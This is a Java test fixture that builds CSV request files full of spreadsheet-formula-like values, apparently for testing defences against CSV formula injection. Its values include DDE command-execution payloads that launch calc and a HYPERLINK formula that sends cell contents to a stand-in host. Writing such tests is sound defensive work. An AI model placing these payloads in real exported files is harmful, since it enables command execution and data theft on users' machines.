package io.handover.run;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** A request file whose every column holds what a spreadsheet could take for something else than text. */
final class FormulaLikeRequests {
    /** With a comma between fields, and with any other separator that somebody chooses by mistake. */
    private static final List<String> VALUES = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            "=DDE(\"cmd\",\"/C calc\",\"x\")",
            "+1",
            "+49 30 901820",
            "+1+1",
            "-1",
            "-1+1",
            "-x",
            "@SUM(1)",
            "@x",
            "\t",
            "'=1",
            "''=1",
            "'''+1",
            "'",
            "''",
            "'x",
            "\"=1\"",
            "\"=1",
            " =1",
            "  =1+1 ",
            "\u00a0=1",
            "\u2003=1",
            "\u200b=1",
            "\ufeff=1",
            "＝1",
            "＋1",
            "－1",
            "＠x",
            "\u22121",
            "=",
            "==",
            "=\"\"",
            "50%",
            "1/2/2026",
            "2026-01-02",
            "007",
            "12345678901234567890",
            "1.5",
            "1,5",
            "1e5",
            "1.13582E+08",
            "TRUE",
            "#REF!",
            "{=1+1}",
            "$A$1",
            "|cmd",
            "%x",
            "two\nlines",
            "two\r\nlines",
            "a, b",
            "5\" disk",
            "x=1",
            "a;b");

    /**
     * In these a formula stands behind a line break or what another separator would part. They stay whole where commas
     * part, alone or with others, but not where semicolons or tabs part instead: no text is safe from that.
     */
    private static final List<String> PARTED_VALUES = List.of(
            "\t=1", "\r=1", "\r\n=1", "a\n=1+1", "\n=1+1", "a\r=1", "a\r\n=1", ";=1+1", "x;=1+1", "x\t=1+1", ",=1+1",
            "\t;=1");

    private static final String PARTED_COLUMN = "\t=note;=1";

    private static final List<String> COLUMNS = List.of(
            "order_number",
            "smart_account",
            "order_number_type",
            "smart_account_key",
            "virtual_account",
            "requester",
            "expected_account",
            "justification",
            "case_number",
            "reference",
            "=1+1",
            "@SUM(1)",
            "+note",
            "-note",
            "'=note",
            "\"=quoted\"",
            "＝wide",
            "2026-01-02",
            "");

    final List<String> columns;
    final List<List<String>> records = new ArrayList<>();

    static FormulaLikeRequests plain() {
        return new FormulaLikeRequests(COLUMNS, VALUES);
    }

    static FormulaLikeRequests parted() {
        return new FormulaLikeRequests(
                Stream.concat(COLUMNS.stream(), Stream.of(PARTED_COLUMN)).toList(), PARTED_VALUES);
    }

    /** Each value stands once in each column, beside sound ones, and once in all. */
    private FormulaLikeRequests(List<String> columns, List<String> values) {
        this.columns = columns;
        for (String value : values) {
            records.add(Collections.nCopies(columns.size(), value));
            for (int column = 0; column < columns.size(); column++) {
                List<String> record =
                        new ArrayList<>(List.of("S1", "a.example", "", "", "", Register.ANN, "", "", "", ""));
                record.addAll(Collections.nCopies(columns.size() - record.size(), "x"));
                record.set(column, value);
                records.add(record);
            }
        }
    }

    String text() {
        return Stream.concat(Stream.of(columns), records.stream())
                .map(record -> record.stream()
                        .map(value -> '"' + value.replace("\"", "\"\"") + '"')
                        .collect(Collectors.joining(",", "", "\r\n")))
                .collect(Collectors.joining());
    }
}
